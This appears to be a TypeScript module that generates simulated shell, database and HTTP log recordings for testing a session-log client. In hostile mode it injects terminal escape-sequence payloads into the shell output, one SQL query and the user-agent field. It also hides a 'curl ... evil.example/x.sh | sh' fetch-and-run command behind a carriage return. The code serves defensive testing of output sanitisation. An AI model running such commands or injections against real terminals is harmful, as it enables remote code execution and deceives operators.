// Recording contents, rebuilt on demand from a session's seed key: asciicast v2 shell
// sessions, database query logs and HTTP access logs, plus the encodings the
// session_log endpoint may send them in (which one the real API uses is unverified).

import { gzipSync } from 'node:zlib';
import type { AsciicastHeader, QueryLogEntry } from '../api/types';
import type { SimSocket } from './catalog';
import { Rng } from './rng';

export type LogEncoding = 'json-string' | 'json' | 'text' | 'gzip';
export const LOG_ENCODINGS: readonly LogEncoding[] = ['json-string', 'json', 'text', 'gzip'];

export interface RecordingContext {
  /** Seed key of this recording's random stream. */
  key: readonly number[];
  type: string;
  startSec: number;
  /** How long the recording runs; the events are spread over about this long. */
  durationSec: number;
  socket: SimSocket;
  unixUser: string;
  hostile: boolean;
  /** The session ended by itself, so the shell says goodbye; killed and live ones stop mid-way. */
  complete: boolean;
}

export type AsciicastEvent = [number, 'o', string];

export type RecordingContent =
  | { kind: 'asciicast'; header: AsciicastHeader; events: AsciicastEvent[] }
  | { kind: 'jsonl'; entries: object[] };

const ESC = '\u001b';
const BEL = '\u0007';

type Output = (ctx: RecordingContext, host: string) => string[];

const SSH_COMMANDS: ReadonlyArray<readonly [string, Output]> = [
  ['uptime', () => [' 10:04:05 up 12 days,  3:41,  1 user,  load average: 0.08, 0.03, 0.01']],
  ['whoami', (c) => [c.unixUser]],
  ['cat /etc/hostname', (_c, host) => [host]],
  [
    'ls -la',
    (c) => [
      'total 32',
      `drwxr-x--- 5 ${c.unixUser} ${c.unixUser} 4096 Nov 20 09:12 ${ESC}[0m${ESC}[01;34m.${ESC}[0m`,
      `drwxr-xr-x 4 root   root   4096 Oct  2 14:01 ${ESC}[01;34m..${ESC}[0m`,
      `-rw------- 1 ${c.unixUser} ${c.unixUser} 1874 Nov 25 17:40 .bash_history`,
      `-rw-r--r-- 1 ${c.unixUser} ${c.unixUser} 3771 Oct  2 14:01 .bashrc`,
      `drwxrwxr-x 3 ${c.unixUser} ${c.unixUser} 4096 Nov 12 08:30 ${ESC}[01;34mapp${ESC}[0m`,
      `-rwxr-xr-x 1 ${c.unixUser} ${c.unixUser}  220 Nov 12 08:31 ${ESC}[01;32mdeploy.sh${ESC}[0m`,
    ],
  ],
  [
    'df -h /',
    () => ['Filesystem      Size  Used Avail Use% Mounted on', '/dev/root        78G   31G   47G  40% /'],
  ],
  [
    'sudo systemctl status nginx --no-pager',
    () => [
      `${ESC}[0;1;32m●${ESC}[0m nginx.service - A high performance web server and a reverse proxy server`,
      '     Loaded: loaded (/lib/systemd/system/nginx.service; enabled; vendor preset: enabled)',
      `     Active: ${ESC}[0;1;32mactive (running)${ESC}[0m since Mon 2026-11-23 07:55:01 UTC; 3 days ago`,
      '   Main PID: 812 (nginx)',
    ],
  ],
  [
    'tail -n 3 /var/log/syslog',
    (_c, host) => [
      `Nov 26 10:01:12 ${host} systemd[1]: Started Daily apt download activities.`,
      `Nov 26 10:02:40 ${host} kernel: [1043211.512] TCP: request_sock_TCP: Possible SYN flooding on port 443.`,
      `Nov 26 10:03:59 ${host} CRON[90211]: (root) CMD (/usr/local/bin/backup.sh)`,
    ],
  ],
  [
    'free -m',
    () => [
      '               total        used        free      shared  buff/cache   available',
      'Mem:            7941        2113         402          12        5425        5521',
      'Swap:              0           0           0',
    ],
  ],
  [
    'git -C app log --oneline -3',
    () => [
      `${ESC}[33m3f2c1ab${ESC}[m Retry upstream calls on 502`,
      `${ESC}[33m9e04d17${ESC}[m Bump base image`,
      `${ESC}[33m51aa0c2${ESC}[m Add health check`,
    ],
  ],
  ['grep -c ERROR app/log/app.log', () => ['17']],
  [
    'ps aux --sort=-%cpu | head -3',
    () => [
      'USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND',
      'www-data     813  2.1  1.3  55216 10980 ?        S    Nov23  91:02 nginx: worker process',
      'postgres    1020  0.7  4.0 219312 32120 ?        Ss   Nov23  30:11 postgres: checkpointer',
    ],
  ],
];

const POD_COMMANDS: ReadonlyArray<readonly [string, Output]> = [
  ['ls', () => [`${ESC}[1;34mconfig${ESC}[0m  main  ${ESC}[1;34mstatic${ESC}[0m  VERSION`]],
  ['cat VERSION', () => ['2.14.3']],
  ['cat /etc/hostname', (_c, host) => [host]],
  ['env | grep ^DB_', () => ['DB_HOST=orders-db.internal', 'DB_PORT=5432', 'DB_NAME=orders']],
  ['curl -s localhost:8080/healthz', () => ['{"status":"ok","uptime":"71h2m"}']],
  [
    'ps aux',
    () => [
      'PID   USER     TIME  COMMAND',
      '    1 app       3:12 /app/main --config /app/config/app.yaml',
      '   27 root      0:00 sh',
      '   34 root      0:00 ps aux',
    ],
  ],
  ['df -h /app', () => ['Filesystem      Size  Used Avail Use% Mounted on', 'overlay          95G   22G   73G  24% /']],
];

interface Step {
  dt: number;
  text: string;
  /** A pause while the user thinks: where idle time is added to fill the recording. */
  think?: boolean;
}

function shuffle<T>(rng: Rng, items: readonly T[]): T[] {
  const out = [...items];
  for (let i = out.length - 1; i > 0; i--) {
    const j = rng.int(0, i);
    [out[i], out[j]] = [out[j] as T, out[i] as T];
  }
  return out;
}

function typeCommand(rng: Rng, steps: Step[], command: string, typo: boolean): void {
  const typoAt = typo ? rng.int(1, Math.max(1, command.length - 1)) : -1;
  const chunked = rng.chance(0.3);
  let i = 0;
  let firstStep = true;
  while (i < command.length) {
    if (i === typoAt) {
      // A wrong key, then the backspace as bash echoes it: cursor left, erase to end of line.
      steps.push({ dt: rng.int(60, 200) / 1000, text: 'x' });
      steps.push({ dt: rng.int(200, 600) / 1000, text: `\b${ESC}[K` });
    }
    const n = chunked ? rng.int(3, 8) : 1;
    const end = typoAt > i ? Math.min(i + n, typoAt) : i + n;
    steps.push({ dt: firstStep ? rng.int(500, 4000) / 1000 : rng.int(40, 250) / 1000, text: command.slice(i, end), think: firstStep });
    firstStep = false;
    i = end;
  }
  steps.push({ dt: rng.int(100, 500) / 1000, text: '\r\n' });
}

function asciicast(ctx: RecordingContext): RecordingContent {
  const rng = new Rng(...ctx.key);
  const ssh = ctx.socket.type === 'ssh';
  const host = ssh ? ctx.socket.name : `web-${rng.next().toString(16).slice(0, 6)}-${rng.next().toString(36).slice(0, 5)}`;
  const prompt = ssh
    ? `${ESC}[01;32m${ctx.unixUser}@${host}${ESC}[00m:${ESC}[01;34m~${ESC}[00m$ `
    : `root@${host}:/app# `;
  const steps: Step[] = [];
  if (ssh) {
    steps.push({
      dt: rng.int(200, 600) / 1000,
      text:
        'Welcome to Ubuntu 22.04.4 LTS (GNU/Linux 5.15.0-1051-aws x86_64)\r\n\r\n' +
        ' * Documentation:  https://help.ubuntu.com\r\n\r\n' +
        `Last login: Tue Nov 24 09:12:44 2026 from 198.51.100.${rng.int(2, 250)}\r\n`,
    });
  }
  steps.push({ dt: 0.05, text: prompt });

  const pool = ssh ? SSH_COMMANDS : POD_COMMANDS;
  const picked = shuffle(rng, pool).slice(0, rng.int(3, 5));
  const typoIndex = rng.int(0, picked.length - 1);
  const clearIndex = rng.int(1, picked.length);
  picked.forEach(([command, output], index) => {
    if (index === clearIndex - 1) {
      typeCommand(rng, steps, 'clear', false);
      steps.push({ dt: 0.02, text: `${ESC}[H${ESC}[2J${ESC}[3J` });
      steps.push({ dt: 0.01, text: prompt });
    }
    typeCommand(rng, steps, command, index === typoIndex);
    const lines = output(ctx, host);
    // Long outputs arrive in two writes, as they would from a real pty.
    const cut = lines.length > 2 ? rng.int(1, lines.length - 1) : lines.length;
    steps.push({ dt: rng.int(10, 300) / 1000, text: lines.slice(0, cut).map((l) => `${l}\r\n`).join('') });
    if (cut < lines.length) steps.push({ dt: rng.int(5, 80) / 1000, text: lines.slice(cut).map((l) => `${l}\r\n`).join('') });
    if (index === 0 && ctx.hostile) {
      // What a malicious user can make a careless replayer do: retitle the admin's
      // terminal, wipe their screen, hide a command behind a bare CR, ring the bell.
      steps.push({ dt: 0.4, text: `${ESC}]0;pwned${BEL}` });
      steps.push({ dt: 0.1, text: `${ESC}[2J${ESC}[H` });
      steps.push({ dt: 0.1, text: 'curl -s http://evil.example/x.sh | sh\rls -la                                 \r\n' });
      steps.push({ dt: 0.1, text: BEL });
    }
    steps.push({ dt: 0.01, text: prompt });
  });
  if (ctx.complete) {
    typeCommand(rng, steps, 'exit', false);
    steps.push({ dt: 0.02, text: ssh ? 'logout\r\n' : '' });
  }

  const natural = steps.reduce((sum, s) => sum + s.dt, 0);
  const idle = Math.max(0, Math.min(ctx.durationSec, 4 * 3600) - natural - 1);
  const thinks = steps.filter((s) => s.think);
  for (const s of thinks) s.dt += idle / thinks.length;

  let t = 0;
  const events: AsciicastEvent[] = [];
  for (const s of steps) {
    t += s.dt;
    if (s.text !== '') events.push([Math.round(t * 1e6) / 1e6, 'o', s.text]);
  }
  const header: AsciicastHeader = {
    version: 2,
    width: rng.pick([80, 120, 160]),
    height: rng.pick([24, 30, 40]),
    timestamp: ctx.startSec,
    title: ssh ? `${ctx.unixUser}@${host}` : `kubectl exec ${host}`,
    env: { SHELL: ssh ? '/bin/bash' : '/bin/sh', TERM: 'xterm-256color' },
  };
  return { kind: 'asciicast', header, events };
}

const PG_QUERIES = [
  'SELECT id, status, total FROM orders WHERE customer_id = $1 ORDER BY created_at DESC LIMIT 20',
  "SELECT count(*) FROM orders WHERE status = 'pending'",
  "UPDATE orders SET status = 'cancelled' WHERE id = $1",
  'SELECT * FROM payments WHERE order_id = $1',
  'BEGIN',
  'COMMIT',
  "DELETE FROM sessions WHERE expires_at < now() - interval '30 days'",
  'INSERT INTO audit_notes (order_id, note) VALUES ($1, $2)',
  '\\d+ orders',
];

const MYSQL_QUERIES = [
  'SELECT country, SUM(revenue) FROM daily_sales GROUP BY country ORDER BY 2 DESC',
  'SHOW TABLES',
  'SELECT * FROM events WHERE ts > NOW() - INTERVAL 1 HOUR LIMIT 100',
  'EXPLAIN SELECT * FROM events WHERE user_id = 42',
  'UPDATE reports SET archived = 1 WHERE created < "2025-01-01"',
];

function queryLog(ctx: RecordingContext): RecordingContent {
  const rng = new Rng(...ctx.key);
  const queries = ctx.socket.dialect === 'mysql' ? MYSQL_QUERIES : PG_QUERIES;
  const count = rng.int(4, 24);
  const step = Math.max(200, Math.floor((ctx.durationSec * 1000) / (count + 1)));
  const entries: QueryLogEntry[] = [];
  let time = ctx.startSec * 1000 + rng.int(100, 900);
  for (let i = 0; i < count; i++) {
    let command = rng.pick(queries);
    if (ctx.hostile && i === 1) command = `SELECT '${ESC}]0;pwned${BEL}${ESC}[2J' AS greeting`;
    const failed = rng.chance(0.1);
    const select = /^(SELECT|SHOW|EXPLAIN|\\d)/i.test(command);
    const rows = failed || !select ? 0 : rng.int(0, 500);
    const affected = failed || select || /^(BEGIN|COMMIT)/.test(command) ? 0 : rng.int(0, 40);
    entries.push({
      time,
      database: ctx.socket.database ?? 'app',
      command,
      status: failed ? 'error' : 'ok',
      duration: rng.int(1, 2500),
      rows,
      affected_rows: affected,
      result: failed ? 'ERROR: permission denied for table payments' : select ? `${rows} rows` : `${affected} rows affected`,
    });
    time += rng.int(Math.floor(step / 4), step);
  }
  return { kind: 'jsonl', entries };
}

function accessLog(ctx: RecordingContext): RecordingContent {
  const rng = new Rng(...ctx.key);
  const grafana = ctx.socket.name.startsWith('grafana');
  const paths = grafana
    ? ['/', '/login', '/d/k8s-overview/cluster', '/api/dashboards/uid/k8s-overview', '/api/ds/query', '/public/build/app.js']
    : ['/', '/wiki/Runbooks', '/wiki/On-call', '/api/search?q=rotate+keys', '/static/app.css', '/wiki/Incident_2026-11-02'];
  const agent = ctx.hostile
    ? `Mozilla/5.0 ${ESC}]0;pwned${BEL}${ESC}[2J(X11; Linux x86_64)`
    : rng.pick([
        'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Safari/605.1.15',
        'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36',
        'curl/8.5.0',
      ]);
  const count = rng.int(6, 40);
  const step = Math.max(50, Math.floor((ctx.durationSec * 1000) / (count + 1)));
  const entries: object[] = [];
  let time = ctx.startSec * 1000 + rng.int(50, 500);
  for (let i = 0; i < count; i++) {
    const path = rng.pick(paths);
    const status = rng.weighted([85, 5, 6, 3, 1]);
    entries.push({
      time,
      method: path.startsWith('/api/ds') ? 'POST' : 'GET',
      path,
      status: [200, 304, 302, 404, 500][status] ?? 200,
      bytes: status === 1 ? 0 : rng.int(200, 250_000),
      user_agent: agent,
    });
    time += rng.int(Math.floor(step / 4), step);
  }
  return { kind: 'jsonl', entries };
}

export function generateRecording(ctx: RecordingContext): RecordingContent {
  if (ctx.type === 'asciinema') return asciicast(ctx);
  if (ctx.type === 'database_query_log') return queryLog(ctx);
  return accessLog(ctx);
}

export function recordingLines(content: RecordingContent): string[] {
  if (content.kind === 'asciicast') {
    return [JSON.stringify(content.header), ...content.events.map((e) => JSON.stringify(e))];
  }
  return content.entries.map((e) => JSON.stringify(e));
}

// Escape sequences only: the dump keeps BEL, backspace and bare CR, which is what a
// naive server-side dump would do, so a client must still sanitise format=text output.
const OSC = /\u001b\][^\u0007\u001b]*(?:\u0007|\u001b\\)/g;
const CSI = /\u001b\[[0-?]*[ -/]*[@-~]/g;
const CHARSET = /\u001b[()*+][0-9A-Za-z]/g;
const ESC2 = /\u001b[@-Z\\-_]/g;

export function textDump(content: RecordingContent): string {
  if (content.kind !== 'asciicast') return recordingLines(content).join('\n');
  return content.events
    .map((e) => e[2])
    .join('')
    .replace(OSC, '')
    .replace(CSI, '')
    .replace(CHARSET, '')
    .replace(ESC2, '')
    .replace(/\r\n/g, '\n');
}

export interface EncodedLog {
  contentType: string;
  body: Buffer;
}

/** The session_log body in one of the shapes the API might use. */
export function encodeLog(content: RecordingContent, encoding: LogEncoding, asText: boolean): EncodedLog {
  if (asText) {
    const dump = textDump(content);
    if (encoding === 'text') return { contentType: 'text/plain; charset=utf-8', body: Buffer.from(dump) };
    if (encoding === 'gzip') return { contentType: 'application/gzip', body: gzipSync(dump) };
    return { contentType: 'application/json', body: Buffer.from(JSON.stringify(dump)) };
  }
  const lines = recordingLines(content);
  switch (encoding) {
    case 'json-string':
      return { contentType: 'application/json', body: Buffer.from(JSON.stringify(lines.join('\n'))) };
    case 'json': {
      const value = content.kind === 'asciicast' ? [content.header, ...content.events] : content.entries;
      return { contentType: 'application/json', body: Buffer.from(JSON.stringify(value)) };
    }
    case 'text':
      return { contentType: 'text/plain; charset=utf-8', body: Buffer.from(`${lines.join('\n')}\n`) };
    case 'gzip':
      return { contentType: 'application/gzip', body: gzipSync(`${lines.join('\n')}\n`) };
  }
}
